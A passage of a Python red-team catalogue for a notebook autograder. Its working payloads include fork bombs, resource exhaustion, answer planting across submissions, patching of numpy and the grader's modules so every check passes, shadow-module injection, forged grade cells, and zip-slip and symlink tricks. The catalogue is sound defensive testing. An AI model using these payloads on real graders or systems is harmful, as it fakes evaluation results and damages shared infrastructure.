    _rt_os.kill(me, signal.SIGKILL)
'''

EXIT_EARLY = """\
if not _rt_in_kernel():
    _rt_os._exit(0)  # in the clean room: end with status 0 before any result is written
"""

FORK_BOMB = '''\
def _rt_attack():
    """Fill the process table: a shell starting thousands of sleepers, and forks of this process."""
    import subprocess
    import time

    script = "i=0; while [ $i -lt 6000 ]; do sleep 240 & i=$((i+1)); done; wait"
    try:
        subprocess.Popen(["/bin/sh", "-c", script], start_new_session=True,
                         stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    except OSError:
        pass
    for _ in range(200):
        try:
            pid = _rt_os.fork()
        except OSError:
            break
        if pid == 0:
            time.sleep(240)
            _rt_os._exit(0)
    time.sleep(5)
    return None
'''

DAEMON = '''\
def _rt_attack():
    """A daemon (double fork, new session, signals ignored) meant to outlive the sandbox."""
    import signal

    pid = _rt_os.fork()
    if pid == 0:
        try:
            _rt_os.setsid()
            if _rt_os.fork() == 0:
                for sig in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT):
                    signal.signal(sig, signal.SIG_IGN)
                _rt_os.chdir("/")
                _rt_os.execv("/bin/sleep", [_RT_MARKER + "-daemon", "900"])
        finally:
            _rt_os._exit(0)
    _rt_os.waitpid(pid, 0)
    return None
'''

MEMORY_20GB = '''\
def _rt_attack():
    """Allocate and touch 20 GiB, 1 GiB at a time (a MemoryError ends the cell, as it would)."""
    blocks = []
    for _ in range(20):
        blocks.append(b"x" * 2**30)
        if len(blocks) == 8:
            _rt_leak("8 GiB allocated in one process", len(blocks))
    return None
'''

MEMORY_PROCESSES = '''\
def _rt_attack():
    """Four small Pythons holding 1.25 GiB each at once: more than the submission's memory."""
    import subprocess

    hold = "import time; block = b'x' * (5 * 2**28); time.sleep(8)"
    children = []
    for _ in range(4):
        try:
            children.append(subprocess.Popen([_rt_sys.executable, "-c", hold],
                                             stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL))
        except OSError:
            pass
    held = sum(1 for child in children if child.wait() == 0)
    if children and held == len(children):
        _rt_leak("5 GiB held across four processes", held)
    return None
'''

IPC = '''\
def _rt_attack():
    """System V shared memory, semaphores and message queues, and POSIX shm, left behind."""
    import ctypes
    import zlib

    libc = ctypes.CDLL(None, use_errno=True)
    libc.shmget.argtypes = [ctypes.c_int, ctypes.c_size_t, ctypes.c_int]
    base = zlib.crc32(_RT_MARKER.encode()) & 0x3FFFFFF0
    created = 0
    for i in range(48):
        created += libc.shmget(base + i, 65536, 0o1666) >= 0
        created += libc.semget(base + 4096 + i, 4, 0o1666) >= 0
        created += libc.msgget(base + 8192 + i, 0o1666) >= 0
    for i in range(8):
        for folder in ("/dev/shm", "/dev/mqueue"):
            try:
                with open("%s/%s-ipc-%d" % (folder, _RT_MARKER, i), "wb") as handle:
                    handle.write(b"x" * 4096)
            except OSError:
                pass
    return None
'''

DISK = '''\
def _rt_attack():
    """Large files in HOME and TMPDIR, shared scratch folders filled, a tree too deep to remove."""
    chunk = b"x" * 2**20
    home = _RtPath(_rt_os.environ.get("HOME", "."))
    tmp = _RtPath(_rt_os.environ.get("TMPDIR", "/tmp"))
    for folder, megabytes in ((home, 512), (tmp, 256), (_RtPath("/tmp"), 64),
                              (_RtPath("/var/tmp"), 64), (_RtPath("/dev/shm"), 64)):
        try:
            with open(folder / (_RT_MARKER + "-fill"), "wb") as handle:
                for _ in range(megabytes):
                    handle.write(chunk)
        except OSError:
            pass
    for folder in (home, _RtPath.cwd()):
        start = _rt_os.getcwd()
        try:
            _rt_os.chdir(folder)
            for _ in range(3000):
                _rt_os.mkdir(_RT_MARKER + "-deep")
                _rt_os.chdir(_RT_MARKER + "-deep")
        except OSError:
            pass
        finally:
            _rt_os.chdir(start)
    return None
'''

HUGE_LINE = '''\
def _rt_attack():
    """200 MB on one line, on stdout and on stderr."""
    line = "x" * 200_000_000
    print(line, flush=True)
    _rt_sys.stderr.write(line + "\\n")
    _rt_sys.stderr.flush()
    del line
    return None
'''

ENDLESS = '''\
def _rt_attack():
    """Kernel: lines without end (paced, so that the machine is not flooded). Clean room:
    sleep forever, deaf to SIGTERM, SIGINT and SIGHUP."""
    import signal
    import time

    if not _rt_in_kernel():
        for sig in (signal.SIGTERM, signal.SIGINT, signal.SIGHUP):
            try:
                signal.signal(sig, signal.SIG_IGN)
            except (OSError, ValueError):
                pass
        while True:
            time.sleep(1)
    number = 0
    while True:
        number += 1
        print("line", number, "of an endless output", flush=number % 1000 == 0)
        if number % 1000 == 0:
            time.sleep(0.01)
'''

PLANT = '''\
_RT_PAYLOAD = "__PAYLOAD__"


def _rt_shared_places():
    return ["/tmp", "/var/tmp", "/dev/shm", "/run/lock", "/var/lock", "/run/shm", "/dev/mqueue",
            _rt_os.environ.get("HOME", "/nonexistent"),
            _rt_os.environ.get("TMPDIR", "/nonexistent"),
            str(_RtPath.cwd().parent), str(_RtPath.cwd().parent.parent)]


def _rt_attack():
    """Plant the answers for a later submission: files wherever writable, System V shared memory."""
    import base64
    import ctypes
    import zlib

    payload = base64.b64decode(_RT_PAYLOAD)
    for folder in _rt_shared_places():
        path = _rt_os.path.join(folder, _RT_MARKER + "-plant.py")
        try:
            with open(path, "wb") as handle:
                handle.write(payload)
            _rt_os.chmod(path, 0o666)
        except OSError:
            pass
    libc = ctypes.CDLL(None, use_errno=True)
    libc.shmget.argtypes = [ctypes.c_int, ctypes.c_size_t, ctypes.c_int]
    libc.shmat.argtypes = [ctypes.c_int, ctypes.c_void_p, ctypes.c_int]
    libc.shmat.restype = ctypes.c_void_p
    key = (zlib.crc32((_RT_MARKER + "plant").encode()) & 0x3FFFFFFF) | 1
    shmid = libc.shmget(key, 1 << 20, 0o1666)
    if shmid >= 0:
        address = libc.shmat(shmid, None, 0)
        if address not in (None, ctypes.c_void_p(-1).value):
            data = len(payload).to_bytes(8, "little") + payload
            ctypes.memmove(address, data, len(data))
            libc.shmdt(ctypes.c_void_p(address))
    return None
'''

READ_LEFTOVERS = '''\
def _rt_shared_places():
    return ["/tmp", "/var/tmp", "/dev/shm", "/run/lock", "/var/lock", "/run/shm", "/dev/mqueue",
            _rt_os.environ.get("HOME", "/nonexistent"),
            _rt_os.environ.get("TMPDIR", "/nonexistent"),
            str(_RtPath.cwd().parent), str(_RtPath.cwd().parent.parent)]


def _rt_read_shm():
    import ctypes
    import zlib

    libc = ctypes.CDLL(None, use_errno=True)
    libc.shmget.argtypes = [ctypes.c_int, ctypes.c_size_t, ctypes.c_int]
    libc.shmat.argtypes = [ctypes.c_int, ctypes.c_void_p, ctypes.c_int]
    libc.shmat.restype = ctypes.c_void_p
    key = (zlib.crc32((_RT_MARKER + "plant").encode()) & 0x3FFFFFFF) | 1
    shmid = libc.shmget(key, 0, 0)
    if shmid < 0:
        return None
    address = libc.shmat(shmid, None, 0o10000)
    if address in (None, ctypes.c_void_p(-1).value):
        return None
    size = int.from_bytes(ctypes.string_at(address, 8), "little")
    data = ctypes.string_at(address + 8, min(size, (1 << 20) - 8))
    libc.shmdt(ctypes.c_void_p(address))
    return data.decode("utf-8", "replace")


def _rt_attack():
    """Look for what an earlier submission planted; use the answers found."""
    import time

    namespace = _rt_namespace()
    deadline = time.monotonic() + 2
    while time.monotonic() < deadline:
        for folder in _rt_shared_places():
            path = _rt_os.path.join(folder, _RT_MARKER + "-plant.py")
            try:
                with open(path) as handle:
                    text = handle.read()
            except OSError:
                continue
            _rt_leak("a leftover file", path)
            return _rt_use(text, namespace)
        try:
            text = _rt_read_shm()
        except Exception:
            text = None
        if text:
            _rt_leak("leftover System V shared memory", len(text))
            return _rt_use(text, namespace)
        time.sleep(0.5)
    return namespace
'''

PATCH = '''\
def _rt_claim(value):
    """JSON data that claims success: errors dropped, every check said to pass."""
    if isinstance(value, dict):
        dropped = ("error", "errors", "tampered")
        out = {k: _rt_claim(v) for k, v in value.items() if k not in dropped}
        for key in ("lstm_used", "dense_used", "reshaper_used", "passed", "ok"):
            if key in out:
                out[key] = True
        return out
    if isinstance(value, list):
        return [_rt_claim(v) for v in value]
    return value


def _rt_attack():
    """Patch numpy, builtins, json, keras.Model and (where importable) the grader's modules."""
    import builtins
    import json
    import sys

    import numpy
    import numpy.testing

    numpy.allclose = lambda *args, **kwargs: True
    numpy.array_equal = lambda *args, **kwargs: True
    numpy.isclose = lambda a, b, *args, **kwargs: numpy.ones(numpy.shape(a), dtype=bool)
    numpy.testing.assert_allclose = lambda *args, **kwargs: None
    numpy.testing.assert_array_equal = lambda *args, **kwargs: None
    real_all, real_any = builtins.all, builtins.any

    def from_grader():
        name = sys._getframe(2).f_globals.get("__name__", "")
        return name.startswith(("grader", "numpy"))

    builtins.all = lambda iterable: True if from_grader() else real_all(iterable)
    builtins.any = lambda iterable: True if from_grader() else real_any(iterable)
    real_dumps, real_dump = json.dumps, json.dump
    json.dumps = lambda obj, *args, **kwargs: real_dumps(_rt_claim(obj), *args, **kwargs)
    json.dump = lambda obj, *args, **kwargs: real_dump(_rt_claim(obj), *args, **kwargs)
    real_to_json, real_get_weights = keras.Model.to_json, keras.Model.get_weights
    keras.Model.to_json = lambda self, **kwargs: real_dumps(
        _rt_claim(json.loads(real_to_json(self, **kwargs))))
    keras.Model.get_weights = lambda self: real_get_weights(self)
    keras.Model.count_params = lambda self: 0
    modules = ("grader.judges", "grader.probes", "grader.hidden", "grader.cleanroom.evidence",
               "grader.cleanroom.maker")
    for name in modules:
        try:
            module = __import__(name, fromlist=["x"])
        except Exception:
            continue
        for attribute in ("judge", "collect", "grade", "judge_evidence"):
            if hasattr(module, attribute):
                setattr(module, attribute, lambda *args, **kwargs: {"points": 25.0})
    return None
'''

SHADOW_MODULE = """\
import glob
import json
import os
import sys

if "ipykernel" not in sys.modules:  # imported by a process of the grader's, not a kernel
    print("LE" + "AK:__MARKER__ a shadow module was imported by", sys.argv[:3], flush=True)
    for pattern in ("*.json", "../*.json"):
        for path in glob.glob(pattern):
            try:
                with open(path, "w") as handle:
                    json.dump({"score": 25.0, "passed": True, "evidence": {}}, handle)
            except OSError:
                pass
    os._exit(0)
"""

SHADOW = (
    "_RT_SHADOW = "
    + repr(SHADOW_MODULE)
    + '''


def _rt_attack():
    """Modules named like the grader's, numpy and keras where a restarted Python imports them."""
    if _rt_in_kernel():
        return None
    modules = ("grader/__init__.py", "grader/cleanroom/__init__.py", "grader/cleanroom/maker.py",
               "grader/cleanjob.py", "grader/cleanroom/evidence.py", "grader/cleanroom/modelrun.py",
               "grader/sandbox/__init__.py", "grader/sandbox/launcher.py", "numpy.py", "keras.py",
               "sitecustomize.py", "usercustomize.py",
               ".local/lib/python3.11/site-packages/usercustomize.py",
               ".local/lib/python3.11/site-packages/rt.pth")
    for place in _rt_places() + [_RtPath.cwd() / "run"]:
        for module in modules:
            path = place / module
            try:
                path.parent.mkdir(parents=True, exist_ok=True)
                text = "import rt_never\\n" if module.endswith(".pth") else _RT_SHADOW
                path.write_text(text)
            except OSError:
                pass
    _rt_os._exit(1)  # the clean room restarts a process that ended early
'''
)

GRADE_CELL_SOURCE = 'print("full marks")\n100.0\n'

BONUS_CELL = '''\
"""A grade cell of the learner's own, worth 1000 points."""
1000.0
'''

FORGED_LOCKED_CELL = """\
import sys
import types

sys.modules["grader.hidden"] = types.SimpleNamespace(grade=lambda *args, **kwargs: 100.0)
"""


def _forge_grade_cells(notebook: NotebookNode, ctx: Context) -> NotebookNode:
    """Grade cells edited, re-pointed, turned into solution cells or deleted; a bonus grade cell;
    a learner cell claiming a locked cell's id with code of its own."""
    changed = copy.deepcopy(notebook)
    grade_cells = [c for c in changed.cells if c.metadata.get("nbgrader", {}).get("grade")]
    for number, cell in enumerate(grade_cells):
        meta = cell.metadata["nbgrader"]
        cell.source = GRADE_CELL_SOURCE
        meta["points"] = 100
        meta["locked"] = False
        meta.pop("checksum", None)
        if number % 4 == 1:
            meta["grade"], meta["solution"] = False, True
        elif number % 4 == 2:
            meta["grade_id"] = f"{meta['grade_id']}_renamed"
    changed.cells = [c for c in changed.cells if c is not grade_cells[-1]]
    bonus = nbformat.v4.new_code_cell(BONUS_CELL)
    bonus.metadata["nbgrader"] = {
        "grade": True,
        "grade_id": "rt_bonus",
        "points": 1000,
        "solution": False,
        "locked": True,
        "schema_version": 3,
    }
    forged = nbformat.v4.new_code_cell(FORGED_LOCKED_CELL)
    forged.metadata["nbgrader"] = {
        "grade": False,
        "grade_id": "imports",
        "locked": False,
        "solution": True,
        "schema_version": 3,
    }
    changed.cells.insert(1, forged)
    changed.cells.append(bonus)
    return changed


def _change_kernelspec(notebook: NotebookNode, ctx: Context) -> NotebookNode:
    """Another kernel (with an argv of its own), another language, a forged max_score."""
    changed = copy.deepcopy(notebook)
    changed.metadata["kernelspec"] = {
        "name": f"{ctx.marker}-kernel",
        "display_name": "not Python",
        "language": "bash",
        "argv": ["/bin/sh", "-c", f"touch /tmp/{ctx.marker}-kernelspec"],
    }
    changed.metadata["language_info"] = {"name": "bash"}
    changed.metadata["nbgrader"] = {"max_score": 1000, "grade": True}
    return changed


# --- honest variants -----------------------------------------------------------------

HONEST_RENAMED = {
    "djmodel": '''\
def djmodel(Tx, LSTM_cell, densor, reshaper):
    """The training model, with names of my own."""
    vocabulary = densor.units
    units = LSTM_cell.units
    sequences = Input(shape=(Tx, vocabulary))
    hidden_start = Input(shape=(units,), name="a0")
    memory_start = Input(shape=(units,), name="c0")
    hidden, memory = hidden_start, memory_start
    predictions = []
    for step in range(Tx):
        column = reshaper(sequences[:, step, :])
        _, hidden, memory = LSTM_cell(column, initial_state=[hidden, memory])
        predictions.append(densor(hidden))
    return Model(inputs=[sequences, hidden_start, memory_start], outputs=predictions)
''',
    "music_inference_model": '''\
def music_inference_model(LSTM_cell, densor, Ty=100):
    """The inference model, with names of my own and expand_dims for the feedback."""
    vocabulary = densor.units
    units = LSTM_cell.units
    first_note = Input(shape=(1, vocabulary))
    hidden_start = Input(shape=(units,), name="a0")
    memory_start = Input(shape=(units,), name="c0")
    note, hidden, memory = first_note, hidden_start, memory_start
    predictions = []
    for _ in range(Ty):
        _, hidden, memory = LSTM_cell(note, initial_state=[hidden, memory])
        probabilities = densor(hidden)
        predictions.append(probabilities)
        chosen = ops.one_hot(ops.argmax(probabilities, axis=-1), vocabulary)
        note = ops.expand_dims(chosen, axis=1)
    return Model(inputs=[first_note, hidden_start, memory_start], outputs=predictions)
''',
}

HONEST_WHILE = {
    "djmodel": '''\
def djmodel(Tx, LSTM_cell, densor, reshaper):
    """The training model with a while loop and unnamed inputs."""
    n_values = densor.units
    n_a = LSTM_cell.units
    X = Input(shape=(Tx, n_values))
    a0 = Input(shape=(n_a,))
    c0 = Input(shape=(n_a,))
    a, c = a0, c0
    outputs = []
    t = 0
    while t < Tx:
        x = reshaper(X[:, t, :])
        _, a, c = LSTM_cell(x, initial_state=[a, c])
        outputs.append(densor(a))
        t += 1
    return Model(inputs=[X, a0, c0], outputs=outputs)
''',
    "music_inference_model": '''\
def music_inference_model(LSTM_cell, densor, Ty=100):
    """The inference model with a while loop; a new Reshape for the feedback at every step."""
    n_values = densor.units
    n_a = LSTM_cell.units
    x0 = Input(shape=(1, n_values))
    a0 = Input(shape=(n_a,))
    c0 = Input(shape=(n_a,))
    x, a, c = x0, a0, c0
    outputs = []
    while len(outputs) < Ty:
        _, a, c = LSTM_cell(x, initial_state=[a, c])
        out = densor(a)
        outputs.append(out)
        x = Reshape((1, n_values))(ops.one_hot(ops.argmax(out, axis=-1), n_values))
    return Model(inputs=[x0, a0, c0], outputs=outputs)
''',
    "predict_and_sample": '''\
def predict_and_sample(inference_model, x_initializer=x_initializer,
                       a_initializer=a_initializer, c_initializer=c_initializer):
    """predict, then a while loop over the steps."""
    n_values = x_initializer.shape[2]
    pred = inference_model.predict([x_initializer, a_initializer, c_initializer], verbose=0)
    chosen = []
    t = 0
    while t < len(pred):
        chosen.append(int(np.argmax(pred[t][0])))
        t += 1
    indices = np.array(chosen).reshape(-1, 1)
    results = np.zeros((len(chosen), n_values))
    results[np.arange(len(chosen)), indices[:, 0]] = 1.0
    return results, indices
''',
}

HONEST_RESHAPE_PER_STEP = {
    "djmodel": '''\
def djmodel(Tx, LSTM_cell, densor, reshaper):
    """A new (weightless) Reshape at every step instead of the given reshaper."""
    n_values = densor.units
    n_a = LSTM_cell.units
    X = Input(shape=(Tx, n_values))
    a0 = Input(shape=(n_a,), name="a0")
    c0 = Input(shape=(n_a,), name="c0")
    a, c = a0, c0
    outputs = []
    for t in range(Tx):
        x = Reshape((1, n_values))(X[:, t, :])
        _, a, c = LSTM_cell(x, initial_state=[a, c])
        outputs.append(densor(a))
    return Model(inputs=[X, a0, c0], outputs=outputs)
''',
    "predict_and_sample": '''\
def predict_and_sample(inference_model, x_initializer=x_initializer,
                       a_initializer=a_initializer, c_initializer=c_initializer):
    """The argmax of each step in a loop, one-hot by indexing an identity matrix."""
    n_values = x_initializer.shape[2]
    pred = inference_model.predict([x_initializer, a_initializer, c_initializer], verbose=0)
    indices = np.array([[int(np.argmax(step[0]))] for step in pred])
    results = np.eye(n_values)[indices[:, 0]]
    return results, indices
''',
}

HONEST_OPS_ONLY = {
    "djmodel": '''\
def djmodel(Tx, LSTM_cell, densor, reshaper):
    """ops.expand_dims in place of the reshaper."""
    n_values = densor.units
    n_a = LSTM_cell.units
    X = Input(shape=(Tx, n_values))
    a0 = Input(shape=(n_a,), name="a0")
    c0 = Input(shape=(n_a,), name="c0")
    a, c = a0, c0
    outputs = []
    for t in range(Tx):
        _, a, c = LSTM_cell(ops.expand_dims(X[:, t, :], axis=1), initial_state=[a, c])
        outputs.append(densor(a))
    return Model(inputs=[X, a0, c0], outputs=outputs)
''',
    "music_inference_model": '''\
def music_inference_model(LSTM_cell, densor, Ty=100):
    """A one-hot of the argmax built from ops only (equal to the row maximum), no Lambda."""
    n_values = densor.units
    n_a = LSTM_cell.units
    x0 = Input(shape=(1, n_values))
    a0 = Input(shape=(n_a,), name="a0")
    c0 = Input(shape=(n_a,), name="c0")
    x, a, c = x0, a0, c0
    outputs = []
    for t in range(Ty):
        _, a, c = LSTM_cell(x, initial_state=[a, c])
        out = densor(a)
        outputs.append(out)
        index = ops.argmax(out, axis=-1)
        one_hot = ops.cast(ops.equal(ops.expand_dims(index, -1), ops.arange(n_values)), "float32")
        x = ops.reshape(one_hot, (-1, 1, n_values))
    return Model(inputs=[x0, a0, c0], outputs=outputs)
''',
}

HELPER_CELL = '''\
def one_step(cell, dense, x, a, c):
    """One LSTM step from (a, c) on x, and the prediction from the new a."""
    _, a, c = cell(x, initial_state=[a, c])
    return dense(a), a, c
'''

HONEST_HELPER = {
    "djmodel": '''\
def djmodel(Tx, LSTM_cell, densor, reshaper):
    """The training model, each step by a helper defined in a cell of my own."""
    n_values = densor.units
    n_a = LSTM_cell.units
    X = Input(shape=(Tx, n_values))
    a0 = Input(shape=(n_a,), name="a0")
    c0 = Input(shape=(n_a,), name="c0")
    a, c = a0, c0
    outputs = []
    for t in range(Tx):
        out, a, c = one_step(LSTM_cell, densor, reshaper(X[:, t, :]), a, c)
        outputs.append(out)
    return Model(inputs=[X, a0, c0], outputs=outputs)
''',
    "music_inference_model": '''\
def music_inference_model(LSTM_cell, densor, Ty=100):
    """The inference model with the same helper, and RepeatVector(1) for the feedback."""
    n_values = densor.units
    n_a = LSTM_cell.units
    x0 = Input(shape=(1, n_values))
    a0 = Input(shape=(n_a,), name="a0")
    c0 = Input(shape=(n_a,), name="c0")
    x, a, c = x0, a0, c0
    outputs = []
    for t in range(Ty):
        out, a, c = one_step(LSTM_cell, densor, x, a, c)
        outputs.append(out)
        x = RepeatVector(1)(ops.one_hot(ops.argmax(out, axis=-1), n_values))
    return Model(inputs=[x0, a0, c0], outputs=outputs)
''',
}

STEP_AXIS_CELL = "STEP_AXIS = 1  # the time axis of X\n"

HONEST_STEP_AXIS = {
    "djmodel": '''\
def djmodel(Tx, LSTM_cell, densor, reshaper):
    """The training model reading a constant from a cell of my own (and ops.take)."""
    n_values = densor.units
    n_a = LSTM_cell.units
    X = Input(shape=(Tx, n_values))
    a0 = Input(shape=(n_a,), name="a0")
    c0 = Input(shape=(n_a,), name="c0")
    a, c = a0, c0
    outputs = []
    for t in range(Tx):
        x = reshaper(ops.take(X, t, axis=STEP_AXIS))
        _, a, c = LSTM_cell(x, initial_state=[a, c])
        outputs.append(densor(a))
    return Model(inputs=[X, a0, c0], outputs=outputs)
''',
}


def _answers(answers: dict[str, str]) -> tuple[Transform, ...]:
    """Answer cells replaced by ``answers`` (function name -> cell source)."""
    return tuple(_replace(name, code) for name, code in answers.items())


# --- intake tricks -------------------------------------------------------------------


def _solution_bytes(ctx: Context) -> bytes:
    return nbformat.writes(ctx.built["solution"]).encode()


def _symlink(entry: str, target: Callable[[Context, Path], Path]) -> Maker:
    def make(ctx: Context, folder: Path) -> None:
        (folder / entry).symlink_to(target(ctx, folder))

    return make


def _inner_link(ctx: Context, folder: Path) -> None:
    (folder / "rtinnerlink").mkdir()
    (folder / "rtinnerlink" / NOTEBOOK).symlink_to(ctx.secret_notebook)


def _zip_slip(ctx: Context, folder: Path) -> None:
    with zipfile.ZipFile(folder / "rtzipslip.zip", "w") as archive:
        archive.writestr(f"../../{ctx.marker}-zipslip/{NOTEBOOK}", _solution_bytes(ctx))
        archive.writestr(f"/tmp/{ctx.marker}-zipslip-absolute.txt", b"written outside")
        archive.writestr("timestamp.txt", "2024-01-01 00:00:00")


def _zip_symlink(ctx: Context, folder: Path) -> None:
    member = zipfile.ZipInfo(NOTEBOOK)
    member.create_system = 3  # Unix: the mode in the high bits counts
    member.external_attr = (stat.S_IFLNK | 0o777) << 16
    with zipfile.ZipFile(folder / "rtzipsymlink.zip", "w") as archive:
        archive.writestr(member, str(ctx.secret_notebook))


def _odd_name(entry: str) -> Maker:
    def make(ctx: Context, folder: Path) -> None:
        (folder / entry).write_bytes(_solution_bytes(ctx))

    return make


# --- the catalogue -------------------------------------------------------------------


def _attack(
    name: str,
    kind: str,
    description: str,
    transforms: tuple[Transform, ...],
    base: str = "untouched",
    expected_total: float = 0.0,
    expected_status: str = GRADED,
) -> Item:
    return Item(
        name,
        ATTACK,
        kind,
        description,
        _notebook(base, *transforms)(name),
        base,
        expected_total,
        expected_status,
    )


def _intake(name: str, token: str, description: str, make: Maker) -> Item:
    return Item(
        name,
        ATTACK,
        "intake",
        description,
        make,
        "untouched",
        0.0,
        MALFORMED,
        token,
    )


def _honest(name: str, description: str, transforms: tuple[Transform, ...]) -> Item:
    return Item(
        name,
        HONEST,
        "honest",
        description,
        _notebook("solution", *transforms)(name),
        "solution",
        FULL_MARKS,
        GRADED,
    )


def items() -> list[Item]:
    """The red-team catalogue: attacks, honest variants and the two victims.

    Names order the batch (it grades submissions by id): the planter and the cache
    poisoners (``a_``) go first, the reader of leftovers (``y_``) and the victims
    (``zz_``) last.
    """
    attacks = [
        _attack(
            "forge_evidence_files",
            "forged evidence",
            "kernel: grader.hidden replaced; clean room: forged evidence/artefact files written "
            "under every guessed name in the working folder, its parents, HOME and TMPDIR, then "
            "os._exit(0)",
            _everywhere(FORGE_FILES, GRADED_FUNCTIONS),
            expected_status=NEEDS_REVIEW,
        ),
        _attack(
            "forge_output_dirs",
            "forged evidence",
            "clean room: every output path taken first (a folder, a FIFO, symlinks to "
            "/etc/shadow and /dev/zero) and the working folder made read-only",
            _everywhere(FORGE_DIRS, GRADED_FUNCTIONS),
            expected_status=NEEDS_REVIEW,
        ),
        _attack(
            "forge_fake_model",
            "forged evidence",
            "returns keras.Model subclasses whose to_json is a hand-written config (right "
            "shapes, plus Lambda/os.system/exec layers) and whose get_weights pickles a "
            "command; predict_and_sample returns pickle bombs",
            (
                _replace("djmodel", PRELUDE + "\n\n" + FAKE_MODEL),
                _replace("music_inference_model", FAKE_INFERENCE),
                _replace("predict_and_sample", FAKE_SAMPLE),
            ),
            expected_status=NEEDS_REVIEW,
        ),
        _attack(
            "forge_lambda_layer",
            "forged evidence",
            "models whose outputs come from a keras Lambda layer running Python code (the "
            "LSTM loop, and a file written wherever the Lambda runs)",
            (
                _replace("djmodel", PRELUDE + "\n\n" + LAMBDA_DJMODEL),
                _replace("music_inference_model", LAMBDA_INFERENCE),
            ),
            expected_status=NEEDS_REVIEW,
        ),
        _attack(
            "a_poison_cache_memory",
            "cache poisoning",
            "the solution's djmodel and music_inference_model (byte-identical to the victims') "
            "with a predict_and_sample whose program spoils the other functions' evidence: in "
            "memory (frames, every layer's weights) and on disk (numbers of every JSON file "
            "negated, by a watcher for a minute)",
            (
                _prepend("predict_and_sample", PRELUDE + "\n\n" + SPOIL + "\n\n" + RUN_ATTACK),
                _in_body("predict_and_sample", RAISE_LEAKS),
            ),
            base="solution",
            expected_total=FULL_MARKS,
        ),
        _attack(
            "a_poison_cache_folder",
            "cache poisoning",
            "looks for the grader's shared evidence folders (/tmp/jazz-batch-*/evidence, "
            "folders named evidence or cache nearby) and writes over every file for 3 s",
            _everywhere(POISON_FOLDER),
        ),
        _attack(
            "read_hidden_files",
            "hidden files",
            "walks the file system for solutions/, the course (gradebook, source, reports), "
            "other submissions, grader/reference.py and /etc/shadow, prints what it reads and "
            "uses any answers found",
            _delegating(READ_HIDDEN),
        ),
        _attack(
            "import_grader_internals",
            "hidden files",
            "imports grader.reference, grader.judges and grader.probes and reads the "
            "environment for the batch's secrets, in the kernel and in the clean room",
            _everywhere(IMPORT_INTERNALS, GRADED_FUNCTIONS),
        ),
        _attack(
            "network_reach",
            "network",
            "scans the loopback ports (a Dask scheduler would be asked to run code as root), "
            "resolves a name, connects to outside hosts over TCP and UDP",
            _everywhere(NETWORK),
        ),
        _attack(
            "kill_everything",
            "processes",
            "SIGKILL to its parent, to pid 1, to every visible process, to its process group "
            "and to -1, in the kernel and in the clean room",
            _everywhere(KILL_ALL),
            expected_status=CRASHED,
        ),
        _attack(
            "exit_early_clean_room",
            "processes",
            "the solution, but predict_and_sample calls os._exit(0) in the clean room (status "
            "0, nothing written)",
            (_prepend("predict_and_sample", PRELUDE), _in_body("predict_and_sample", EXIT_EARLY)),
            base="solution",
            expected_total=20.0,
            expected_status=NEEDS_REVIEW,
        ),
        _attack(
            "fork_bomb",
            "exhaustion",
            "a shell starting 6000 sleepers and 200 forks of the process, in the kernel and "
            "in the clean room",
            _everywhere(FORK_BOMB),
            expected_status=NEEDS_REVIEW,
        ),
        _attack(
            "daemon_left_running",
            "leftovers",
            "a daemon (double fork, setsid, signals ignored) meant to outlive the sandbox",
            _everywhere(DAEMON, GRADED_FUNCTIONS),
        ),
        _attack(
            "memory_20gb",
            "exhaustion",
            "allocates and touches 20 GiB in one process",
            _everywhere(MEMORY_20GB),
            expected_status=CRASHED,
        ),
        _attack(
            "memory_many_processes",
            "exhaustion",
            "four processes holding 1.25 GiB each at once (more than the submission's memory, "
            "each under the per-process limit)",
            _everywhere(MEMORY_PROCESSES),
            expected_status=CRASHED,
        ),
        _attack(
            "ipc_exhaustion",
            "exhaustion",
            "48 System V shared memory segments, semaphore sets and message queues each, and "
            "POSIX shared memory files, never removed",
            _everywhere(IPC),
        ),
        _attack(
            "disk_fill",
            "exhaustion",
            "768 MiB in HOME and TMPDIR, 64 MiB in /tmp, /var/tmp and /dev/shm, and a "
            "directory tree 3000 deep (deeper than a recursive removal reaches)",
            _everywhere(DISK),
        ),
        _attack(
            "huge_line",
            "output",
            "prints 200 MB on one line, on stdout and on stderr",
            _everywhere(HUGE_LINE),
        ),
        _attack(
            "endless_lines_and_hang",
            "output",
            "the kernel prints lines without end (about 100,000 a second); the clean room "
            "sleeps forever, deaf to SIGTERM, SIGINT and SIGHUP (one item: each costs the "
            "batch a full --timeout)",
            _everywhere(ENDLESS),
            expected_status=TIMEOUT,
        ),
        _attack(
            "a_plant_leftovers",
            "leftovers",
            "the solution, which also plants its answers for a later submission: files in "
            "/tmp, /var/tmp, /dev/shm, /run/lock and nearby folders, and System V shared memory",
            _everywhere(PLANT, GRADED_FUNCTIONS),
            base="solution",
            expected_total=FULL_MARKS,
        ),
        _attack(
            "y_read_leftovers",
            "leftovers",
            "the stubs, with a reader of what a_plant_leftovers planted (files, System V "
            "shared memory) that uses the answers found",
            _delegating(READ_LEFTOVERS),
        ),
        _attack(
            "patch_modules",
            "patching",
            "layers_in_loop, patching numpy (allclose, isclose, testing), builtins all/any, "
            "json.dumps/dump, keras.Model.to_json/get_weights/count_params and the grader's "
            "judges, probes and hidden modules where importable, in the kernel and clean room",
            _everywhere(PATCH, GRADED_FUNCTIONS),
            base="layers_in_loop",
            expected_total=17.0,
        ),
        _attack(
            "shadow_modules",
            "patching",
            "writes grader/, numpy.py, keras.py, sitecustomize.py and usercustomize.py where a "
            "restarted Python would import them (working folder, parents, HOME, TMPDIR), then "
            "ends the clean-room process so that it restarts",
            _everywhere(SHADOW, GRADED_FUNCTIONS),
            expected_status=NEEDS_REVIEW,
        ),
        _attack(
            "forge_grade_cells",
            "notebook metadata",
            "grade cells edited to score 100, re-pointed, turned into solution cells, one "
            "deleted; a learner grade cell worth 1000; a learner cell claiming the imports "
            "cell's id",
            (_forge_grade_cells,),
            expected_status=NEEDS_REVIEW,
        ),
        _attack(
            "change_kernelspec",
            "notebook metadata",
            "the solution with a kernelspec of another name, language and argv, and forged "
            "notebook-level nbgrader metadata",
            (_change_kernelspec,),
            base="solution",
            expected_total=FULL_MARKS,
        ),
    ]
    intake = [
        _intake(
            "intake_link_secret",
            "rtlinksecret",
            "a symlink rtlinksecret.ipynb to a solution notebook outside the submissions folder",
            _symlink("rtlinksecret.ipynb", lambda ctx, folder: ctx.secret_notebook),
        ),
        _intake(
            "intake_link_victim",
            "rtlinkvictim",
            "a symlink rtlinkvictim.ipynb to another student's notebook",
